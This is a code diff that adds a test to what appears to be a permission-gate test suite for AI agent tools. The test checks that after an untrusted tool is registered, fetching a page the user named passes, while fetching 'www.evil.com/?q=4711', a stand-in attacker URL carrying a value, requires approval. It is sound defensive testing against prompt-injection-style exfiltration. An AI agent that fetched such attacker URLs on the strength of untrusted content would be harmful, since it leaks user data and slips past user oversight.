@@ -420,6 +420,22 @@ describe('tools that a stranger has declared', () => {
     expect(await call('reserve', { hotel: 'Seaview Inn', start: '2031-05-14' })).toBe('ok');
   });
 
+  it('a page that only others name asks also where the tool says only that it looks', async () => {
+    const { gate, call } = await openWorld();
+    gate.registry.register(Tool.define('look', { ...looking, untrusted: true, effects: () => [] }));
+    gate.registry.register(
+      Tool.define('get_page', {
+        ...reading,
+        parameters: z.object({ url: z.string() }),
+        execute: async () => ({ output: 'a page' }),
+      }),
+    );
+    gate.session().said('Read https://corp.com/hotels');
+    expect(await call('look')).toBe('ok');
+    expect(await call('get_page', { url: 'https://corp.com/hotels' })).toBe('ok');
+    expect(await call('get_page', { url: 'www.evil.com/?q=4711' })).toBe('asked');
+  });
+
   it('what a tool gives back that says nothing of what it touches is written by others, unless it says so', async () => {
     for (const [untrusted, outcome] of [
       [undefined, 'asked'],
